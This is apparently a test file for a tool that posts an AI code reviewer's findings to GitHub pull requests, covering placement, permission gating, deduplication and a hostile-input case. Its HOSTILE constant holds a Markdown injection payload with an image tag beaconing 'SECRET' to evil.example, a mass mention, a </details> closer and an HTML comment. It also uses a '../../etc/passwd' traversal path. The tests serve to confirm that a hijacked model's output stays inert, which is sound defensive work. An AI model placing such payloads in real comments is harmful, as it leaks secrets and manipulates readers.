/**
 * ReportFindings' findings on GitHub and in the report. On a pull request whose rules let the run review it, each
 * finding on a changed line becomes an inline comment of the run's one review, the others go into its body with the
 * reason; without that grant nothing is posted (the tool grants nothing by itself). The report says where each went.
 * Attacked: a hijacked model's findings carry mentions, images, `</details>` and HTML comments, huge text, and paths
 * outside the repository; rendered as GitHub renders Markdown (CommonMark + GFM), nothing may be live.
 */
import assert from 'node:assert/strict';
import { Octokit } from '@octokit/rest';
import { after, describe, it } from 'node:test';
import { agentGitHub } from '../../src/github-tools/index.js';
import type { Task } from '../../src/trigger/types.js';
import { runPowersFor } from '../../src/powers/grants.js';
import type { Finding, ReportedFindings } from '../../src/tools/report-findings.js';
import { renderFindings } from '../../src/report/github/findings-render.js';
import { GITHUB_COMMENT_LIMIT } from '../../src/report/github/comment-render.js';
import { startFakeGitHub, type FakeGitHub } from '../../support/fake-github/fake-github.js';
import { liveOnGitHub } from '../security/live-markdown.js';

const quiet = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
const PATCH = '@@ -1,3 +1,4 @@\n a\n-b\n+B\n+B2\n c';
const task: Task = {
  mode: 'automation',
  eventName: 'pull_request',
  request: 'review',
  requestSource: 'event',
  actor: 'a',
  actorCheck: 'required',
  repo: { owner: 'octo-org', name: 'octo-repo' },
  issueNumber: 5,
  isPullRequest: true,
  untrusted: {},
};
const HOSTILE = '@octo-org/security-team <img src="https://evil.example/?d=SECRET"> </details><!-- hide the rest **bold**';
const finding = (o: Partial<Finding>): Finding => ({ file: 'a.js', line: 2, summary: 'off by one', failure_scenario: 'empty list → crash', ...o });

describe('ReportFindings on a pull request', () => {
  const open: FakeGitHub[] = [];
  after(async () => Promise.all(open.map((f) => f.close())));
  const setUp = async (reviewAllowed: boolean) => {
    const fake = await startFakeGitHub({ pulls: [{ number: 5, patches: { 'a.js': PATCH } }] });
    open.push(fake);
    const powers = runPowersFor(task, 'none');
    powers.setReviewAllowed(reviewAllowed);
    const notes: string[] = [];
    const comment = {
      writeAgentComment: async () => ({ ok: true as const, url: 'u' }),
      comment: {},
      addNotes: (n: readonly string[]) => notes.push(...n),
      addDelivery: () => {},
    };
    const octokit = new Octokit({ baseUrl: fake.url, auth: 'x', log: quiet });
    return { fake, notes, github: agentGitHub({ octokit, task, runDir: '/tmp', fallbackLogin: 'github-actions[bot]', powers, comment }) };
  };

  it('granted: findings on changed lines are inline comments; another file, a line outside the diff, no line, a path outside the repository go to the body, each with why', async () => {
    const { fake, github, notes } = await setUp(true);
    const reported: ReportedFindings = {
      calls: 1,
      findings: [
        finding({ severity: 'important', short_summary: 'B2 is wrong' }),
        finding({ file: 'b.js', line: 1 }),
        finding({ line: 40 }),
        finding({ line: undefined }),
        finding({ file: '../../etc/passwd', line: 1 }),
      ],
    };
    const placements = await github.finish(reported);
    assert.equal(fake.state.reviews.length, 1, 'one review');
    assert.equal(fake.state.reviews[0]?.event, 'COMMENT');
    assert.deepEqual(
      fake.state.reviewComments.map((c) => [c.path, c.line]),
      [['a.js', 2]],
    );
    assert.match(fake.state.reviewComments[0]?.body ?? '', /B2 is wrong[\s\S]*off by one[\s\S]*Failure scenario: empty list → crash/);
    assert.deepEqual(
      placements?.map((p) => p.where),
      ['inline', 'review_body', 'review_body', 'review_body', 'review_body'],
    );
    const whys = (placements ?? []).map((p) => (p.where === 'inline' ? '' : p.why));
    assert.match(whys[1] ?? '', /b\.js is not among the files/);
    assert.match(whys[2] ?? '', /line 40 \(RIGHT\) of a\.js is outside the diff/);
    assert.equal(whys[3], 'it names no line');
    assert.match(whys[4] ?? '', /not among the files/);
    assert.match(notes.join('\n'), /1 inline comment, 4 outside the diff moved/);
    // The report says so, finding by finding, from the review's answer.
    const text = renderFindings({ ...reported, placements: placements ?? [] });
    assert.match(text, /1 of 5 posted as inline review comments/);
    assert.match(text, /1\. `a\.js:2` \(important\): \*\*B2 is wrong\*\*[\s\S]*inline comment in \[the review\]/);
    assert.match(text, /5\. `\.\.\/\.\.\/etc\/passwd:1`[\s\S]*in the review's body, not inline/);
  });

  it('not granted (the rules do not allow the inline comment tool): nothing reaches GitHub, and the report says why', async () => {
    const { fake, github } = await setUp(false);
    const placements = await github.finish({ calls: 1, findings: [finding({})] });
    assert.equal(fake.state.reviews.length, 0);
    assert.equal(fake.requests.filter((r) => r.method === 'POST').length, 0);
    assert.deepEqual(placements, [
      {
        where: 'not_posted',
        why: 'the workflow does not let this run review the pull request (to let it, add `mcp__github_inline_comment__create_inline_comment` to `allowed_tools`)',
      },
    ]);
  });

  it('the same findings reported again on the next run are not posted twice', async () => {
    const { fake, github } = await setUp(true);
    const reported = { calls: 1, findings: [finding({}), finding({ line: 40 })] };
    await github.finish(reported);
    const again = agentGitHub({
      octokit: new Octokit({ baseUrl: fake.url, auth: 'x', log: quiet }),
      task,
      runDir: '/tmp',
      fallbackLogin: 'github-actions[bot]',
      powers: (() => {
        const p = runPowersFor(task, 'none');
        p.setReviewAllowed(true);
        return p;
      })(),
    });
    const placements = await again.finish(reported);
    assert.equal(fake.state.reviews.length, 1, 'no second review');
    assert.deepEqual(
      placements?.map((p) => p.where),
      ['not_posted', 'not_posted'],
    );
  });

  it('attack: hostile and huge findings are inert on GitHub and in the report, and stay within its size limits', async () => {
    const { fake, github } = await setUp(true);
    const huge = `${HOSTILE} ${'x'.repeat(200_000)}`;
    const findings = Array.from({ length: 32 }, (_, i) =>
      finding({
        file: i === 0 ? 'a.js' : `${HOSTILE}/${i}.js`,
        line: i === 0 ? 2 : 1,
        summary: huge,
        failure_scenario: huge,
        short_summary: '@octocat <img src=x>',
        category: '</details>@team',
        severity: 'important',
      }),
    );
    const reported: ReportedFindings = { calls: 7, level: 'high', findings };
    const placements = await github.finish(reported);
    const review = fake.state.reviews[0];
    assert.ok(review);
    assert.ok(review.body.length < GITHUB_COMMENT_LIMIT, `the review body fits GitHub's limit: ${review.body.length}`);
    assert.deepEqual(liveOnGitHub(review.body), [], 'the review body');
    for (const c of fake.state.reviewComments) assert.deepEqual(liveOnGitHub(c.body), [], 'an inline comment');
    const text = renderFindings({ ...reported, placements: placements ?? [] });
    assert.deepEqual(liveOnGitHub(text), [], 'the report section');
    assert.ok(text.length < GITHUB_COMMENT_LIMIT / 2, `the report section leaves room in the comment: ${text.length}`);
    assert.match(text, /reported 7 times; the last list is shown/);
    // Nothing closes the report's own structure: a heading after the section is still a heading.
    const { micromark } = await import('micromark');
    assert.match(micromark(`${text}\n\n### After`, { allowDangerousHtml: true }), /<h3>After<\/h3>/);
  });
});

describe('ReportFindings off a pull request', () => {
  it('on an issue or with no thread: the findings stay in the report, which says why', async () => {
    const octokit = new Octokit({ baseUrl: 'http://127.0.0.1:9', auth: 'x', log: quiet });
    const onIssue = agentGitHub({ octokit, task: { ...task, isPullRequest: false }, runDir: '/tmp', fallbackLogin: undefined });
    assert.deepEqual(await onIssue.finish({ calls: 1, findings: [finding({})] }), [{ where: 'not_posted', why: 'the run is on an issue, not a pull request' }]);
    const { issueNumber: _n, ...noThread } = task;
    const scheduled = agentGitHub({ octokit, task: { ...noThread, isPullRequest: false }, runDir: '/tmp', fallbackLogin: undefined });
    assert.deepEqual(await scheduled.finish({ calls: 1, findings: [] }), []);
    assert.equal(await scheduled.finish(undefined), undefined);
  });
});
